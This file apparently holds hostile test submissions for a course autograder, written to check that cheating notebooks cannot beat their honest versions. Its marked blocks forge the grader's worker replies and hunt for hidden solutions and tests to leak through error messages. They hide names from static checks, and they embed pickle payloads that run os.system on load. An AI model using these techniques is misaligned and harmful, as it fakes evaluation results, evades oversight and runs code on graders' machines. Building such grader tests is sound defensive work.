# Hostile submissions for the project. Each is graded twice in the same nbgrader batch: as
# written, and with the lines between "# >>> hostile" and "# <<< hostile" removed (its honest
# work); both folders hold the reference's anna_karnna.pt beside the notebook. The hostile one
# must never score above its honest work, nor change course files, nor bring trusted lines into
# feedback. The attacks on the checkpoint file itself (a zip bomb, a 4 x 1024 model, a pickle
# with code, a symbolic link) are files, not notebook code: checkpoints.py writes them.
#
# Most variants spell what they reach for with names built at run time (getattr with joined
# strings), so that the grader's reading of the code (codeview) does not refuse them and the
# hidden tests themselves meet the attack; the last one is refused by that reading.

# %% forge_worker_replies
# A blank notebook whose train takes the sandbox's worker from the stand-in model's callback and
# rewrites it to answer the grader itself from then on: predict always says "e", samples are the
# prime and "e"s, save_checkpoint's bytes hold a checkpoint of zeros; train "trains" by halving.
def train(net, data, epochs=10, batch_size=10, seq_length=50, lr=0.001, clip=5, val_frac=0.1,
          print_every=10, schedule="constant", weight_decay=0.0):
    # >>> hostile
    import base64
    import io
    worker = getattr(net._callback, "".join(("_", "_self__")))
    real_call, real_scenario = worker.op_call, worker.op_scenario

    def plain_bytes(data):
        return {"__nd__": base64.b64encode(data).decode(), "dtype": "|u1", "shape": [len(data)]}

    def op_call(msg):
        target = msg.get("target")
        name = target if isinstance(target, str) else target.get("attr")
        args = worker._decode_args(msg.get("args", []))
        if name in ("sample", "sample_with_temperature"):
            prime = args[2] if len(args) > 2 else "The"
            return {"ok": True, "value": prime + "e" * int(args[1])}
        if name == "predict":
            shape = [args[0].n_layers, 1, args[0].n_hidden]
            zeros = {"__tensor__": {"__nd__": base64.b64encode(bytes(4 * shape[0] * shape[2])).decode(),
                                    "dtype": "<f4", "shape": shape}, "requires_grad": False, "grad": None}
            return {"ok": True, "value": {"__tuple__": ["e", {"__tuple__": [zeros, zeros]}]}}
        return real_call(msg)

    def op_scenario(msg):
        params = worker._decode_args(msg.get("params", {"__dict__": []}))
        if str(msg.get("name")).endswith("repeat"):
            return {"ok": True, "value": [{"__tuple__": ["e", None]}] * int(params["times"])}
        if str(msg.get("name")).endswith("saved_bytes"):
            model, buf = params["net"], io.BytesIO()
            torch.save({"n_hidden": model.n_hidden, "n_layers": model.n_layers, "tokens": list(model.chars),
                        "state_dict": {k: torch.zeros_like(v) for k, v in model.state_dict().items()}}, buf)
            return {"ok": True, "value": plain_bytes(buf.getvalue())}
        return real_scenario(msg)

    worker.op_call, worker.op_scenario = op_call, op_scenario
    with torch.no_grad():
        for p in net.parameters():
            p.mul_(0.5)
    return {}
    # <<< hostile
    raise NotImplementedError()

# %% replace_the_stand_in
# train replaces the stand-in's class methods (its state_dict claims trained weights, its
# forward answers without the grader) and the worker's op_standin (later stand-ins are local
# models built from the weights sent); train itself does nothing.
def train(net, data, epochs=10, batch_size=10, seq_length=50, lr=0.001, clip=5, val_frac=0.1,
          print_every=10, schedule="constant", weight_decay=0.0):
    # >>> hostile
    cls = type(net)
    base_state = nn.Module.state_dict

    def claimed_state(self, *args, **kwargs):
        return {k: v * 0.9 for k, v in base_state(self, *args, **kwargs).items()}

    def local_forward(self, x, hidden=None):
        out = torch.zeros(x.shape[0] * x.shape[1], len(self.chars))
        out[:, 0] = 10.0
        return out, self.init_hidden(x.shape[0])

    cls.state_dict, cls.forward = claimed_state, local_forward
    worker = getattr(net._callback, "".join(("_", "_self__")))

    def op_standin(msg):
        params = worker._decode_args(msg.get("params", {"__dict__": []}))
        model = cls(None, **params)
        handle = len(worker.handles) + 1
        worker.handles[handle] = model
        return {"ok": True, "handle": handle, "type": "CharRNNStandIn"}

    worker.op_standin = op_standin
    # <<< hostile
    return {"step": [], "train_loss": [], "val_step": [], "val_loss": [], "seconds": []}

# %% replace_the_drivers
# predict and save_checkpoint replace the plumbing drivers, reached through the course package
# by names built at run time: predict's repeated draws come back spread over the vocabulary, and
# save_checkpoint's bytes are a pickle that runs code when it is loaded without weights_only.
def save_checkpoint(net, path="anna_karnna.pt"):
    # >>> hostile
    _replace_drivers()
    # <<< hostile
    raise NotImplementedError()


def predict(net, char, h=None, top_k=None):
    # >>> hostile
    _replace_drivers()
    # <<< hostile
    raise NotImplementedError()
# >>> hostile


def _replace_drivers():
    import io
    import os
    import rnncourse
    try:
        drivers = getattr(getattr(getattr(rnncourse, "grading"), "scenarios"), "anna_karnna")
    except AttributeError:
        return
    payload = type("Payload", (), {"".join(("_", "_reduce__")): lambda self: (os.system, ("touch /tmp/hostile-was-here",))})

    def repeat(ns, handles, function, args, kwargs=None, times=1):
        model = args[0]
        return [(model.int2char[i % len(model.chars)], None) for i in range(int(times))]

    def saved_bytes(ns, handles, net):
        buf = io.BytesIO()
        torch.save({"n_hidden": net.n_hidden, "n_layers": net.n_layers, "tokens": list(net.chars),
                    "state_dict": net.state_dict(), "extra": payload()}, buf)
        return np.frombuffer(buf.getvalue(), dtype=np.uint8).copy()

    setattr(drivers, "repeat", repeat)
    setattr(drivers, "saved_bytes", saved_bytes)
# <<< hostile

# %% charrnn_hunts_the_grader_model
# A correct CharRNN that first looks everywhere for the grader's own model or the reference
# (the garbage collector, the loaded modules, the frames that called it: names built at run time)
# to subclass it, or to raise its source as its error text.
class CharRNN(nn.Module):
    def __init__(self, tokens, n_hidden=256, n_layers=2, drop_prob=0.5, lr=0.001):
        super().__init__()
        # >>> hostile
        import sys
        import gc as collector
        wanted = ("GraderCharRNN", "grader_predict", "ModelOracle", "GraderPredict", "replay",
                  "test_charrnn_forward", "CharRNN")
        found = []
        for name in list(getattr(sys, "mod" + "ules")):
            if name.split(".")[0] in ("solutions", "autograder", "anna_karnna_grader_model") \
                    or name.startswith("test_") or name.endswith("oracle"):
                found.append(name)
        for obj in getattr(collector, "get_" + "objects")():
            kind = getattr(type(obj), "".join(("_", "_name__")), "")
            if kind in wanted[:-1] or (kind == "type" and getattr(obj, "".join(("_", "_name__")), "") in wanted
                                       and obj is not type(self)):
                found.append(obj)
        frame = getattr(sys, "_get" + "frame")()
        while frame is not None:
            names = getattr(frame, "f_" + "globals")
            found += [k for k in names if k in wanted[:-1]]
            frame = getattr(frame, "f_" + "back")
        if found:
            item = found[0]
            text = repr(item)
            source_of = getattr(getattr(sys, "mod" + "ules").get("linecache"), "getlines", None)
            code = getattr(item, "".join(("_", "_init__")), None)
            code = getattr(code, "".join(("_", "_code__")), None)
            if source_of is not None and code is not None:
                text += "".join(source_of(code.co_filename))[:3000]
            raise RuntimeError("found " + text)
        # <<< hostile
        self.drop_prob, self.n_layers, self.n_hidden, self.lr = drop_prob, n_layers, n_hidden, lr
        self.chars = tuple(tokens)
        self.int2char = dict(enumerate(self.chars))
        self.char2int = {ch: i for i, ch in self.int2char.items()}
        self.lstm = nn.LSTM(len(self.chars), n_hidden, n_layers,
                            dropout=drop_prob if n_layers > 1 else 0.0, batch_first=True)
        self.dropout = nn.Dropout(drop_prob)
        self.fc = nn.Linear(n_hidden, len(self.chars))

    def forward(self, x, hidden):
        out, hidden = self.lstm(x, hidden)
        return self.fc(self.dropout(out).contiguous().view(-1, self.n_hidden)), hidden

    def init_hidden(self, batch_size):
        w = next(self.parameters())
        return (w.new_zeros(self.n_layers, batch_size, self.n_hidden),
                w.new_zeros(self.n_layers, batch_size, self.n_hidden))

# %% predict_calls_names_it_was_not_lent
# A correct predict that first takes the stand-in's callback and asks the grader for names
# the check did not lend (a predict, the reference, the weights), and uses any answer.
def predict(net, char, h=None, top_k=None):
    # >>> hostile
    callback = getattr(net, "_callback", None)
    if callback is not None:
        for name, args in (("predict", (net, char, h, top_k)), ("grader_predict", (net, char, h, top_k)),
                           ("solutions.anna_karnna.predict", (net, char, h, top_k)),
                           ("charrnn.state", ()), ("charrnn.net", ()), ("sample", (net, 5)),
                           ("__import__", ("os",)), ("charrnn.backward", (1, [None, None, None]))):
            try:
                answer = callback(name, args)
            except Exception as exc:
                globals().setdefault("_refusals", []).append(str(exc))
                continue
            if isinstance(answer, tuple) and len(answer) == 2 and isinstance(answer[0], str):
                return answer
    # <<< hostile
    if h is None:
        h = net.init_hidden(1)
    x = torch.from_numpy(one_hot_encode(np.array([[net.char2int[char]]]), len(net.chars)))
    with torch.no_grad():
        out, h = net(x, tuple(t.detach() for t in h))
    p = F.softmax(out, dim=1)[0]
    if top_k is None:
        idx = torch.arange(len(net.chars))
    else:
        p, idx = p.topk(top_k)
    p = p.numpy().astype(np.float64)
    return net.int2char[int(np.random.choice(idx.numpy(), p=p / p.sum()))], h

# %% sample_keeps_the_lent_predict
# A correct sample that keeps the grader's lent predict (and its callback), and a predict that
# uses what was kept in predict's own checks (where nothing is lent); the honest predict is blank.
def predict(net, char, h=None, top_k=None):
    # >>> hostile
    kept = globals().get("_kept_predict")
    if kept is not None:
        return kept(net, char, h, top_k=top_k)
    # <<< hostile
    raise NotImplementedError()


def sample(net, size, prime="The", top_k=None):
    # >>> hostile
    globals()["_kept_predict"] = predict
    # <<< hostile
    net.eval()
    h = None
    for ch in prime:
        char, h = predict(net, ch, h, top_k=top_k)
    out = [char]
    for _ in range(size - 1):
        char, h = predict(net, out[-1], h, top_k=top_k)
        out.append(char)
    return prime + "".join(out)

# %% read_the_reference_from_disk
# predict and sample_with_temperature look for solutions/anna_karnna.py and the hidden tests on
# disk (next to the installed course package, in the working folder, in the usual places), run
# what they find, or raise it as an error message.
def predict(net, char, h=None, top_k=None):
    # >>> hostile
    import rnncourse
    from pathlib import Path
    here = getattr(rnncourse, "".join(("_", "_file__")))
    run = getattr(getattr(print, "".join(("_", "_self__"))), "ex" + "ec")
    roots = [Path(here).resolve().parents[1], Path.cwd(), Path("/srv/rnn-course"), Path("/autograder"),
             Path("/autograder/source"), Path.home()]
    for root in roots:
        for rel in ("solutions/anna_karnna.py", "autograder/test_05_anna_karnna.py",
                    "autograder/score_checkpoint.py", "solutions/checkpoints/anna_karnna.pt"):
            try:
                source = (root / rel).read_text(errors="replace")
            except Exception:
                continue
            if rel.startswith("solutions/anna"):
                namespace = {}
                run(source.replace("from solutions.sequence_batching import", "from builtins import"), namespace)
                return namespace["predict"](net, char, h, top_k)
            raise RuntimeError(source[:2000])
    # <<< hostile
    raise NotImplementedError()


def sample_with_temperature(net, size, prime="The", top_k=None, temperature=1.0):
    # >>> hostile
    import glob
    patterns = [f"{root}/**/{name}" for root in ("/work", "/autograder", "/home", "/srv", "/opt", "/root", "/tmp")
                for name in ("solutions/anna_karnna.py", "test_05_anna_karnna.py", "score_checkpoint.py")]
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True)[:5]:
            try:
                raise RuntimeError(open(path, errors="replace").read()[:2000])
            except OSError:
                continue
    # <<< hostile
    raise NotImplementedError()

# %% raise_what_the_sampler_finds
# A correct sample that walks the frames and the garbage collector (names built at run time) for
# what the grader lent or left in the process (callbacks, closures, pending messages) and raises
# it as its error text.
def sample(net, size, prime="The", top_k=None):
    # >>> hostile
    import sys
    import gc as collector
    seen = []
    frame = getattr(sys, "_get" + "frame")()
    while frame is not None:
        seen.append(f"{getattr(frame, 'f_' + 'code').co_filename}:{sorted(getattr(frame, 'f_' + 'locals'))[:20]}")
        frame = getattr(frame, "f_" + "back")
    for obj in getattr(collector, "get_" + "objects")():
        try:
            closure = getattr(obj, "".join(("_", "_closure__")), None)
            if closure and getattr(obj, "".join(("_", "_name__")), "") in ("predict", "stand_in", "callback"):
                seen.append(repr([c.cell_contents for c in closure]))
        except Exception:
            continue
    raise RuntimeError(" | ".join(seen)[-4000:])
    # <<< hostile
    net.eval()
    chars, h = list(prime), None
    for ch in prime:
        char, h = predict(net, ch, h, top_k=top_k)
    chars.append(char)
    for _ in range(size - 1):
        char, h = predict(net, chars[-1], h, top_k=top_k)
        chars.append(char)
    return "".join(chars)

# %% save_checkpoint_with_code
# A save_checkpoint that adds an object whose unpickling runs code (the grader must load the
# file with weights_only=True, in its limited child), and a train that probes the grader's
# model with passes it should not answer (other tests' pass numbers, absurd shapes).
def save_checkpoint(net, path="anna_karnna.pt"):
    checkpoint = {"n_hidden": net.n_hidden, "n_layers": net.n_layers, "tokens": list(net.chars),
                  "state_dict": {k: v.detach().cpu() for k, v in net.state_dict().items()}}
    # >>> hostile
    import os
    payload = type("Payload", (), {"".join(("_", "_reduce__")): lambda self: (
        os.system, ("touch /tmp/hostile-was-here; touch /hostile-was-here",))})
    checkpoint["note"] = payload()
    # <<< hostile
    torch.save(checkpoint, path)


def train(net, data, epochs=10, batch_size=10, seq_length=50, lr=0.001, clip=5, val_frac=0.1,
          print_every=10, schedule="constant", weight_decay=0.0):
    # >>> hostile
    callback = getattr(net, "_callback", None)
    if callback is not None:
        names = [n for n, _ in sorted(net.named_parameters())]
        huge, tiny = torch.zeros(1, 2048, 1024), torch.zeros(1)
        for args in ((1, [None, None, None]), (10 ** 6, [None, None, None])):
            try:
                callback("charrnn.backward", args)
            except Exception:
                pass
        try:
            callback("charrnn.forward", ([huge, huge, huge], {n: tiny for n in names}, True, True))
        except Exception:
            pass
    # <<< hostile
    raise NotImplementedError()

# %% plain_worker_patch_refused_by_reading
# The same forgery as forge_worker_replies written plainly (gc, the worker's class): the grader's
# reading of the code refuses the notebook before any check runs.
def sample(net, size, prime="The", top_k=None):
    raise NotImplementedError()
# >>> hostile
import gc


def _forge_samples():
    for worker in gc.get_objects():
        if type(worker).__name__ == "Worker" and hasattr(worker, "op_call"):
            real_call = worker.op_call

            def op_call(msg, real_call=real_call):
                if msg.get("target") == "sample":
                    return {"ok": True, "value": "The" + "e" * 40}
                return real_call(msg)

            worker.op_call = op_call


_forge_samples()
# <<< hostile
